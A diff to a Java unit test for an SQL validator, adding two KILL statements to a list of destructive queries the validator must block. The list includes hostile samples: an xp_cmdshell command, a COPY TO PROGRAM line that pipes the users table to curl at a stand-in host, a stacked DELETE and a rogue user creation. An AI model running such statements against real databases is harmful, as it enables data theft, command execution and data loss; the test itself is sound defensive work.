@@ -70,7 +70,9 @@ class SqlValidatorTest {
             "EXEC xp_cmdshell 'whoami'",
             "COPY users TO PROGRAM 'curl -d @- http://x.example'",
             "INSERT INTO t VALUES (1); DELETE FROM t WHERE id = 1",
-            "CREATE USER eve IDENTIFIED BY 'x'"})
+            "CREATE USER eve IDENTIFIED BY 'x'",
+            "KILL 4711",
+            "KILL QUERY 4711"})
     void destructiveStatementsFailSql(String sql) {
         assertFalse(write.check(sql).allowed(), sql);
     }
